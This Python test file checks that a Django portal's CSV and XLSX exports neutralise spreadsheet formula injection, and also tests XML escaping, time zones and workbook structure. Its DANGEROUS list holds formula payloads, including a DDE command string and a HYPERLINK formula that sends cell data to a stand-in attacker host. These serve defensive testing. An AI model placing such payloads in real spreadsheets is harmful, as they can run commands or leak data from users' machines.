"""CSV and XLSX: harmless, and read back by hand as spreadsheets read them."""

import csv
import io
import xml.etree.ElementTree as ET
import zipfile
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone

from portal.sheets import csv_file, xlsx_file

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

DANGEROUS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =cmd|' /C calc'!A0",
    "＝1+1",
    '=HYPERLINK("http://evil.example.com?x="&A1,"Click")',
]
HARMLESS = ["E-000000017", "Checkout fails", "", "a=b", "3-2", "l'été", "x@example.com"]


def read_csv(heading, rows):
    data = b"".join(csv_file(heading, [rows]))
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(heading, batches):
    """The package as a zip, the sheet as lists of (type, style, text or number)."""
    package = zipfile.ZipFile(io.BytesIO(b"".join(xlsx_file(heading, batches))))
    assert package.testzip() is None
    parts = {name: ET.fromstring(package.read(name)) for name in package.namelist()}
    rows = parts["xl/worksheets/sheet1.xml"].iter(f"{MAIN}row")
    return parts, [[cell_of(cell) for cell in row] for row in rows]


def cell_of(cell):
    return cell.get("t"), cell.get("s"), "".join(cell.itertext())


@pytest.mark.rule("LIST-5")
@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_that_looks_like_a_formula_is_none_in_csv(text):
    assert read_csv(["Title"], [[text]])[1] == [f"'{text}"]


@pytest.mark.rule("LIST-5")
@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_stay_as_they_are(text):
    assert read_csv(["Title"], [[text, "end"]])[1] == [text, "end"]


@pytest.mark.rule("LIST-5")
@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_of_xlsx_is_text_and_stays_text(text):
    _parts, rows = read_xlsx(["Title"], [[[text]]])

    kind, style, seen = rows[1][0]
    assert (kind, style) == ("inlineStr", "2")
    assert seen.strip() == text.strip()


@pytest.mark.rule("LIST-5")
def test_quotes_commas_and_new_lines_stay_in_their_cell():
    row = ['He said "no", twice', "two\nlines", "a;b,c"]

    assert read_csv(["A", "B", "C"], [row])[1] == row


@pytest.mark.rule("LIST-5")
@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a\x01b\x1f", "a_x0001_b_x001F_"),
        ("literally _x0041_", "literally _x005F_x0041_"),
        ("<b> & ]]>", "<b> & ]]>"),
        ("\ufffe", "_xFFFE_"),
        ("🎫 émoji", "🎫 émoji"),
    ],
)
def test_what_xml_may_not_hold_is_escaped_as_spreadsheets_do(text, written):
    _parts, rows = read_xlsx(["Title"], [[[text]]])

    assert rows[1][0][2] == written


@pytest.mark.rule("LIST-5")
def test_times_are_those_of_the_reader():
    moment = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)

    with timezone.override(ZoneInfo("Europe/Paris")):
        [[_heading], [written]] = read_csv(["Opened"], [[moment]])
        _parts, rows = read_xlsx(["Opened"], [[[moment, None]]])

    assert written == "2026-07-02 00:30"
    assert rows[1] == [(None, "1", "46205.020833"), (None, None, "")]


@pytest.mark.rule("LIST-5")
def test_the_package_has_the_parts_that_its_relations_name():
    parts, rows = read_xlsx(["Number", "Title"], [[["1", "a"]], [["2", "b"]], []])

    assert set(parts) == {
        "[Content_Types].xml",
        "_rels/.rels",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
    }
    targets = {one.get("Target") for one in parts["xl/_rels/workbook.xml.rels"]}
    assert targets == {"worksheets/sheet1.xml", "styles.xml"}
    declared = {one.get("PartName") for one in parts["[Content_Types].xml"] if one.get("PartName")}
    assert {name.lstrip("/") for name in declared} <= set(parts)
    assert len(parts["xl/styles.xml"].find(f"{MAIN}cellXfs")) == 4
    assert [[text for *_rest, text in row] for row in rows] == [
        ["Number", "Title"],
        ["1", "a"],
        ["2", "b"],
    ]


@pytest.mark.rule("LIST-5")
@pytest.mark.parametrize("write", [csv_file, xlsx_file])
def test_no_batch_is_asked_for_before_what_came_before_has_left(write):
    asked = []

    def batches():
        for number in range(3):
            asked.append(number)
            yield [[str(number)] * 2] * 5000

    chunks = write(["Number"], batches())
    next(chunks)

    assert asked == []
    assert len(list(chunks)) > 3
